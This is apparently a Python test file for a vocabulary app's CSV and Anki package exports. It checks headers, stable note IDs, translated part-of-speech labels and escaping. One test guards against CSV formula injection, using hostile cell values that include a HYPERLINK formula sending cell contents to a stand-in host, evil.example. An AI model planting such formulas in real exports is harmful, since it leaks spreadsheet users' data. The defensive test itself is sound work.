"""CSV and Anki exports, read back the way a user's tools would read them."""

import csv
import io
import json
import sqlite3
import zipfile
from dataclasses import replace
from pathlib import Path

from core.export import apkg_bytes, csv_bytes
from core.i18n import translator
from core.models import Deck
from core.store import Card
from storage.sqlite import open_store
from tests.factories import deck, phrase, word


async def _cards(
    tmp_path: Path, words: tuple[str, ...] = ("hypothesis", "<b>bold</b>")
) -> list[Card]:
    async with open_store(tmp_path / "e.sqlite3") as store:
        user = await store.get_or_create_user("telegram", "1", learner_language="ko", level="B1")
        info = await store.save_deck(user.id, deck(words=words))
        return await store.deck_cards(user.id, info.id)


async def test_csv_has_a_header_and_one_row_per_card(tmp_path: Path) -> None:
    cards = await _cards(tmp_path)
    rows = list(csv.reader(io.StringIO(csv_bytes(cards).decode("utf-8"))))
    assert rows[0] == [
        "kind", "front", "part_of_speech", "meaning", "sentence", "link", "pronunciation"
    ]  # fmt: skip
    assert rows[1][:2] == ["word", "hypothesis"]
    assert rows[1][6] == "/haɪˈpɑθəsəs/", "a dictionary word's IPA"
    assert rows[2][6] == "", "a word the dictionary lacks: nothing"
    assert rows[1][5] == "https://youtu.be/vidAAAAAAA1?t=0"
    assert rows[-1][:3] == ["phrase", "figure out", "phrase"]
    assert len(rows) == 1 + len(cards)


def _notes(data: bytes, tmp_path: Path) -> list[tuple[str, str]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        name = next(n for n in archive.namelist() if n.startswith("collection.anki2"))
        (tmp_path / "c.anki2").write_bytes(archive.read(name))
    with sqlite3.connect(tmp_path / "c.anki2") as db:
        return sorted(db.execute("SELECT guid, flds FROM notes").fetchall())


async def test_apkg_is_an_anki_package_with_stable_note_ids(tmp_path: Path) -> None:
    cards = await _cards(tmp_path)
    first = _notes(await apkg_bytes(cards, deck_name="A talk", owner="1"), tmp_path)
    again = _notes(await apkg_bytes(cards, deck_name="A talk", owner="1"), tmp_path)
    assert len(first) == len(cards)
    assert [g for g, _ in first] == [g for g, _ in again], "re-import updates, not duplicates"
    fields = "\n".join(f for _, f in first)
    assert "hypothesis" in fields and "&lt;b&gt;bold&lt;/b&gt;" in fields
    assert "<b>" not in fields
    assert "/haɪˈpɑθəsəs/" in fields, "the Pronunciation field"


async def test_the_anki_cards_name_the_part_of_speech_in_the_learners_language(
    tmp_path: Path,
) -> None:
    """An Anki card shows "명사" to a Korean learner, not the tag "n" (CSV keeps tags)."""
    cards = await _cards(tmp_path)
    korean = _notes(
        await apkg_bytes(cards, deck_name="A talk", owner="1", tr=translator("ko")), tmp_path
    )
    parts = {flds.split("\x1f")[1] for _, flds in korean}
    assert parts == {"명사", "표현"}, parts
    english = _notes(
        await apkg_bytes(cards, deck_name="A talk", owner="1", tr=translator("en")), tmp_path
    )
    assert {flds.split("\x1f")[1] for _, flds in english} == {"noun", "phrase"}
    package = await apkg_bytes(cards, deck_name="A talk", owner="1", tr=translator("ko"))
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        name = next(n for n in archive.namelist() if n.startswith("collection.anki2"))
        (tmp_path / "m.anki2").write_bytes(archive.read(name))
    with sqlite3.connect(tmp_path / "m.anki2") as db:
        models = json.loads(db.execute("SELECT models FROM col").fetchone()[0])
    answer_side = " ".join(t["afmt"] for m in models.values() for t in m["tmpls"])
    assert "이 장면 보기" in answer_side and "watch this moment" not in answer_side


HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)")


def _hostile_deck() -> Deck:
    base = deck(words=(), phrases=())
    words = tuple(
        replace(word(f"w{i}"), lemma=text, meaning=text, sentence=text)
        for i, text in enumerate(HOSTILE)
    )
    phrases = (replace(phrase("x"), text="\t=1+1", sentence="\r=1+1", meaning="- a dash"),)
    return replace(base, words=words, phrases=phrases)


async def test_csv_cells_never_start_a_formula_and_anki_keeps_the_text(tmp_path: Path) -> None:
    """OWASP CSV injection: a cell starting with = + - @ tab or CR runs as a formula in a
    spreadsheet. Such cells get a leading apostrophe in the CSV; Anki's package is untouched."""
    async with open_store(tmp_path / "h.sqlite3") as store:
        user = await store.get_or_create_user("telegram", "1", learner_language="ko", level="B1")
        info = await store.save_deck(user.id, _hostile_deck())
        cards = await store.deck_cards(user.id, info.id)
    rows = list(csv.reader(io.StringIO(csv_bytes(cards).decode("utf-8"))))[1:]
    cells = [cell for row in rows for cell in row if cell]
    risky = [cell for cell in cells if cell[0] in "=+-@\t\r"]
    assert risky == [], f"{len(risky)}/{len(cells)} cells start a formula"
    fronts = sorted(row[1] for row in rows)
    assert fronts == sorted(["'" + text for text in HOSTILE] + ["'\t=1+1"])
    assert [row[3] for row in rows if row[0] == "phrase"] == ["'- a dash"]
    fields = "\n".join(
        f for _, f in _notes(await apkg_bytes(cards, deck_name="A", owner="1"), tmp_path)
    )
    assert "'" + "=HYPERLINK" not in fields and "=HYPERLINK" in fields, "Anki's text unchanged"
